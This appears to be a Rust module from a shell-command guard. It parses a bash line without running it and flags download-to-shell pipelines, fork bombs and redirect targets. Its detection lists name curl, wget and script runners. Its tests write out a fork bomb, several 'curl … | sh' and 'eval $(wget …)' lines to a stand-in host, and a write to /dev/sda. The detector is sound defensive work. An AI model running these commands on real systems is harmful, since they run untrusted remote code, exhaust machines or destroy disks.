//! What a whole line shows before it runs: its commands as written, the
//! files it redirects into, and the shapes (a fork bomb, a download piped into a shell) that no single
//! command shows. From bashkit's own parser, so it reads the line exactly
//! as the shell will.

use bashkit::parser::Parser;
use serde_json::Value;

use crate::rule::Shape;
use crate::unwrap::{SHELLS, invocations};
use crate::words::basename;

/// Programs that fetch from the network.
const DOWNLOADERS: &[&str] = &["curl", "wget"];

/// Programs that run a script given to them: shells, interpreters, and the
/// builtins that run their arguments as a line.
const RUNNERS: &[&str] =
    &["python", "python3", "python2", "perl", "ruby", "node", "php", "lua", "Rscript", "eval", "source", "."];

/// Whether `program` (a basename) runs a script it is given.
fn runs_scripts(program: &str) -> bool {
    SHELLS.contains(&program) || RUNNERS.contains(&program)
}

/// One simple command as written.
#[derive(Debug, Clone)]
pub(crate) struct WrittenCommand {
    /// Its name, `None` when computed (`$cmd`).
    pub(crate) name: Option<String>,
    /// Its arguments, `None` for each one not fully literal.
    pub(crate) args: Vec<Option<String>>,
}

impl WrittenCommand {
    /// The literal words (a computed one left out), for a decision now.
    pub(crate) fn literal_argv(&self) -> Option<Vec<String>> {
        let name = self.name.clone()?;
        Some(std::iter::once(name).chain(self.args.iter().flatten().cloned()).collect())
    }

    /// Whether any word is computed, so the decision is taken again when it runs.
    pub(crate) fn is_partly_dynamic(&self) -> bool {
        self.name.is_none() || self.args.iter().any(Option::is_none)
    }
}

/// The static facts of one line.
#[derive(Debug, Default)]
pub(crate) struct LineFacts {
    pub(crate) commands: Vec<WrittenCommand>,
    /// Literal targets of `>`/`>>`/`&>`.
    pub(crate) write_targets: Vec<String>,
    /// Literal files read with `<`.
    pub(crate) read_sources: Vec<String>,
    /// Shapes found, each with the words that show it.
    pub(crate) shapes: Vec<(Shape, String)>,
}

/// A line that does not parse as bash: the parser's words. Never an
/// allow: the shell will not run it either.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Unparsable(pub String);

/// Reads `line` without running it. A line that does not parse is an error
/// (and never an allow: the shell will not run it either).
pub(crate) fn facts(line: &str) -> Result<LineFacts, Unparsable> {
    let analysis = bashkit::analysis::analyze(line).map_err(|e| Unparsable(e.to_string()))?;
    let mut facts = LineFacts {
        write_targets: analysis.redirects.iter().filter(|r| r.mode.is_write()).filter_map(|r| r.path.clone()).collect(),
        read_sources: analysis.redirects.iter().filter(|r| !r.mode.is_write()).filter_map(|r| r.path.clone()).collect(),
        ..LineFacts::default()
    };
    let mut downloads = false;
    let mut shells = false;
    for command in &analysis.commands {
        let written = WrittenCommand { name: command.name.clone(), args: command.args.clone() };
        if let Some(argv) = written.literal_argv() {
            for inner in invocations(&argv) {
                let program = basename(&inner[0]);
                downloads |= DOWNLOADERS.contains(&program);
                shells |= runs_scripts(program);
            }
        }
        facts.commands.push(written);
    }
    // The parse tree is walked only when a shape is possible at all.
    if !analysis.functions.is_empty() || (downloads && shells) {
        let tree = Parser::new(line).parse().map_err(|e| Unparsable(e.to_string()))?;
        if let Ok(tree) = serde_json::to_value(&tree) {
            find_shapes(&tree, &mut facts.shapes);
        }
    }
    Ok(facts)
}

/// Walks bashkit's parse tree (as JSON, so every compound form and every
/// `$( )` inside a word is reached the same way) for pipelines and functions.
fn find_shapes(node: &Value, found: &mut Vec<(Shape, String)>) {
    match node {
        Value::Object(map) => {
            if let Some(pipeline) = map.get("Pipeline") {
                let stages: Vec<Vec<String>> = stages(pipeline).collect();
                let fetches = |s: &Vec<String>| invocations(s).iter().any(|i| DOWNLOADERS.contains(&basename(&i[0])));
                let runs = |s: &Vec<String>| invocations(s).iter().any(|i| runs_scripts(basename(&i[0])));
                if let Some(first) = stages.iter().position(fetches)
                    && stages[first + 1..].iter().any(runs)
                {
                    let words: Vec<String> = stages.iter().map(|s| s.join(" ")).collect();
                    found.push((Shape::DownloadToShell, words.join(" | ")));
                }
            }
            // `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget -qO- …)"`.
            if let Some(simple) = map.get("Simple") {
                let words = simple_words(simple);
                let runner = !words.is_empty() && invocations(&words).iter().any(|i| runs_scripts(basename(&i[0])));
                if runner && ["args", "redirects"].iter().filter_map(|k| simple.get(*k)).any(holds_download) {
                    let shown: Vec<&str> = words.iter().map(String::as_str).filter(|w| !w.is_empty()).collect();
                    found.push((Shape::DownloadToShell, format!("{} $(download)", shown.join(" "))));
                }
            }
            if let Some(function) = map.get("Function")
                && let Some(name) = function.get("name").and_then(Value::as_str)
                && calls_itself_twice_in_a_pipeline(function.get("body").unwrap_or(&Value::Null), name)
            {
                found.push((Shape::ForkBomb, format!("{name}() {{ {name} | {name} … }}")));
            }
            map.values().for_each(|v| find_shapes(v, found));
        }
        Value::Array(items) => items.iter().for_each(|v| find_shapes(v, found)),
        _ => {}
    }
}

fn calls_itself_twice_in_a_pipeline(body: &Value, name: &str) -> bool {
    match body {
        Value::Object(map) => {
            let here = map
                .get("Pipeline")
                .is_some_and(|p| stages(p).filter(|s| s.first().is_some_and(|program| program == name)).count() >= 2);
            here || map.values().any(|v| calls_itself_twice_in_a_pipeline(v, name))
        }
        Value::Array(items) => items.iter().any(|v| calls_itself_twice_in_a_pipeline(v, name)),
        _ => false,
    }
}

/// The literal words of each simple command of a pipeline (a computed word is empty).
fn stages(pipeline: &Value) -> impl Iterator<Item = Vec<String>> + '_ {
    let commands = pipeline.get("commands").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    commands.iter().filter_map(|c| c.get("Simple")).map(simple_words)
}

/// A simple command's literal words (a computed word is empty).
fn simple_words(simple: &Value) -> Vec<String> {
    let name = simple.get("name").map(literal).unwrap_or_default();
    let args = simple.get("args").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    std::iter::once(name).chain(args.iter().map(literal)).collect()
}

/// Whether a downloader runs anywhere inside `node` (a `$( )` or `<( )`).
fn holds_download(node: &Value) -> bool {
    match node {
        Value::Object(map) => {
            let fetches = map.get("Simple").is_some_and(|simple| {
                let words = simple_words(simple);
                !words.is_empty() && invocations(&words).iter().any(|i| DOWNLOADERS.contains(&basename(&i[0])))
            });
            fetches || map.values().any(holds_download)
        }
        Value::Array(items) => items.iter().any(holds_download),
        _ => false,
    }
}

/// A word's literal text (`{"parts": [{"Literal": "curl"}]}` → `curl`).
fn literal(word: &Value) -> String {
    let parts = word.get("parts").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    parts.iter().filter_map(|p| p.get("Literal").and_then(Value::as_str)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes_are_found_wherever_they_sit() {
        for (line, shape) in [
            (":(){ :|:& };:", Some(Shape::ForkBomb)),
            ("if true; then f() { f | f; }; fi", Some(Shape::ForkBomb)),
            ("f() { f; }; f", None),
            ("curl -s https://x.test/i | sh", Some(Shape::DownloadToShell)),
            ("echo $(wget -qO- x | bash)", Some(Shape::DownloadToShell)),
            ("curl x | sudo -E bash -s", Some(Shape::DownloadToShell)),
            ("sh install.sh; curl -o f x", None),
            ("curl x | jq . | sort", None),
            ("bash <(curl -s https://x.test/i)", Some(Shape::DownloadToShell)),
            ("sh -c \"$(curl -fsSL https://x.test/i)\"", Some(Shape::DownloadToShell)),
            ("curl -s https://x.test/i | python3", Some(Shape::DownloadToShell)),
            ("eval \"$(wget -qO- https://x.test/env)\"", Some(Shape::DownloadToShell)),
            ("python3 -c \"$(curl -s x)\"", Some(Shape::DownloadToShell)),
            ("echo \"$(curl -s x)\" > page.html; python3 parse.py", None),
            ("python3 <(cat local.py)", None),
        ] {
            let found = facts(line).map(|f| f.shapes.first().map(|s| s.0)).unwrap_or(None);
            assert_eq!(found, shape, "{line}");
        }
    }

    #[test]
    fn redirections_and_parse_errors() {
        assert!(facts("echo 'unterminated").is_err());
        let f = facts("echo hi > /dev/sda; cat < in; ls >> log").unwrap_or_default();
        assert_eq!(f.write_targets, vec!["/dev/sda", "log"]);
    }
}
